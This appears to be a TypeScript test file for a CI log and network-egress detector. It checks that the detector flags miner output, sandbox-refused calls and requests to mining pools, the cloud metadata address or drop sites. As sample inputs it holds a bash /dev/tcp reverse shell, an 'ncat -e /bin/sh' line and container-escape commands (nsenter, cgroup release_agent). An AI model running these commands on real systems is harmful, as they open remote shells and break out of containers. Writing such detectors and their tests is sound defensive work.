import assert from 'node:assert/strict';
import { test } from 'node:test';
import { stripVTControlCharacters } from 'node:util';
import { createLineRules, egressFlags, endFlags, readOfLine } from './rules.ts';

const rulesOf = (...lines: string[]): string[] => {
  const rules = createLineRules('build', stripVTControlCharacters);
  rules.see(lines.map((text, index) => ({ n: index + 1, text })));
  return rules.flags().map(({ rule }) => rule);
};
const egress = (hosts: readonly string[]) => ({
  ...{ allowed: 0, refused: hosts.length, bytesIn: 0, bytesOut: 0 },
  hosts: hosts.map((host) => ({ host, allowed: 0, refused: 1 })),
});

test('what miners print is suspicious, coloured too, with the range of lines that it stands in', () => {
  const rules = createLineRules('build', stripVTControlCharacters);
  rules.see([
    { n: 7, text: 'compiling' },
    { n: 8, text: '\u001b[1;37m * POOL #1 \u001b[0m stra\u001b[36mtum+tcp://pool.example:3333' },
    { n: 9, text: 'miner  speed 10s/60s/15m 1203.1 1190.0 n/a H/s max 1210.4 H/s' },
  ]);
  assert.deepEqual(rules.flags(), [
    {
      ...{ kind: 'suspicious', rule: 'miner', lines: { step: 'build', from: 8, to: 9 } },
      text: 'Step build speaks as a miner of coins does: 2 lines, 8 to 9 of its log.',
    },
  ]);
  assert.deepEqual(rulesOf('{"id":1,"method": "mining.subscribe","params":[]}'), ['miner']);
});

test('a shell for the network and what leads out of containers are suspicious', () => {
  assert.deepEqual(rulesOf('+ bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'), ['reverse-shell']);
  assert.deepEqual(rulesOf('ncat 203.0.113.9 4444 -e /bin/sh'), ['reverse-shell']);
  assert.deepEqual(rulesOf('+ nsenter --target 1 --mount'), ['escape-attempt']);
  assert.deepEqual(rulesOf('echo x > /sys/fs/cgroup/rdma/release_agent'), ['escape-attempt']);
});

test('a program that the sandbox ended for a system call is suspicious, whoever started it', () => {
  for (const line of [
    'Bad system call',
    '/woodpecker/step.sh: line 12:     3 Bad system call         ./tool --version',
    'make[2]: *** [Makefile:7: all] Bad system call (core dumped)',
    'fork/exec: signal: bad system call',
    "subprocess.CalledProcessError: Command '['./tool']' died with <Signals.SIGSYS: 31>.",
  ]) {
    assert.deepEqual(rulesOf(line), ['refused-call'], line);
  }
  const flags = endFlags([
    { name: 'probe', exitCode: 159 },
    { name: 'build', exitCode: 1 },
    { name: 'skipped', exitCode: null },
  ]);
  assert.deepEqual(
    flags.map(({ kind, rule, text }) => [kind, rule, text.split(':')[0]]),
    [
      [
        ...['suspicious', 'refused-call'],
        'Step probe was ended by its sandbox for a system call (SIGSYS)',
      ],
    ],
  );
});

test('what the sandbox refused by the word of the tools is unusual, and suspicious beyond 20 lines of a step', () => {
  const refused = [
    'unshare: unshare failed: Operation not permitted',
    'mount: /mnt: must be superuser to use mount.',
    "nsenter: reassociate to namespace 'ns/mnt' failed: Operation not permitted",
    "chroot: cannot change root directory to '/': Operation not permitted",
    'strace: ptrace(PTRACE_TRACEME, ...): Operation not permitted',
    'dmesg: read kernel buffer failed: Operation not permitted',
    'bwrap: No permissions to create new namespace, likely because the kernel does not allow it',
    'sysctl: permission denied on key "kernel.core_pattern"',
  ];
  for (const line of refused) assert.deepEqual(rulesOf(line), ['refused-by-sandbox'], line);
  const kinds = (count: number): string[] => {
    const rules = createLineRules('build', stripVTControlCharacters);
    const lines = Array.from({ length: count }, (_, n) => refused[n % refused.length] ?? '');
    rules.see(lines.map((text, index) => ({ n: index + 1, text })));
    return rules.flags().map(({ kind, text }) => `${kind}: ${text}`);
  };
  assert.deepEqual(kinds(20), [
    'unusual: Step build tried what its sandbox refuses: 20 lines, 1 to 20 of its log.',
  ]);
  assert.deepEqual(kinds(21), [
    'suspicious: Step build tried what its sandbox refuses: 21 lines, 1 to 21 of its log.',
  ]);
});

test('what ordinary builds print is not suspicious', () => {
  const lines = [
    'added 812 packages, and audited 813 packages in 9s',
    'Accepted 3 of 3 snapshots',
    'speed: 12.4 MB/s, 3 files',
    '+ bash -e scripts/build.sh > /dev/null',
    'nc: connect to localhost port 5432 (tcp) failed: Connection refused',
    'hashing 12 GH/slash-commands.ts',
    'src/pool/stratum.ts: 14 tests passed',
    'docs: what to do when a program ends with Bad system call',
    'mount: 3 components mounted',
    'cp: cannot create regular file: Permission denied',
    'Could not find a valid Docker environment: unix:///var/run/docker.sock',
  ];
  assert.deepEqual(rulesOf(...lines), []);
});

test('a line made for it costs no more than a few milliseconds', () => {
  const hostile = [
    'nc '.repeat(20_000),
    'accepted '.repeat(9000),
    '"method"'.repeat(9000),
    `mount: ${'no '.repeat(9000)}`,
    'x: line 1:'.repeat(9000),
  ];
  const from = performance.now();
  assert.deepEqual(rulesOf(...hostile), []);
  assert.ok(performance.now() - from < 500, `${performance.now() - from} ms`);
  assert.ok(hostile.every((line) => line.length > readOfLine));
});

test('who asked for a pool of miners, for the address of credentials or for a drop site is suspicious, by its whole name', () => {
  const flags = egressFlags(
    egress(['xmr.nanopool.org', '169.254.169.254', 'webhook.site', 'notnanopool.org']),
  );
  assert.deepEqual(
    flags.map(({ kind, rule }) => `${kind} ${rule}`),
    ['suspicious miner', 'suspicious metadata-address', 'suspicious drop-site'],
  );
  assert.match(flags[0]?.text ?? '', /xmr\.nanopool\.org.*0 times let through, 1 times refused/);
  assert.deepEqual(egressFlags(null), []);
});

test('who asks for more than 20 hosts that it may not reach looks around', () => {
  const hosts = Array.from({ length: 21 }, (_, n) => `h${n}.example`);
  assert.deepEqual(egressFlags(egress(hosts.slice(1))), []);
  assert.deepEqual(
    egressFlags(egress(hosts)).map(({ rule }) => rule),
    ['looks-around'],
  );
});
